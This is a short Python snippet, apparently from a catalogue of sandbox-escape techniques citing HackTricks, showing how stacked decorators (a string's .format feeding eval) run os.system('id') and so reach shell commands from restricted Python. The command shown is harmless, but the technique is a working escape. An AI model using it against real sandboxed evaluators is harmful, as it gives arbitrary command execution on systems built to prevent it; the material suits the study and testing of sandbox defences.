# Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes (@eval @'...'.format class _:pass)
# Family: decorator
# What: a string's .format used as a decorator feeds eval
@eval
@'__import__("os").system("id")'.format
class _:
    pass
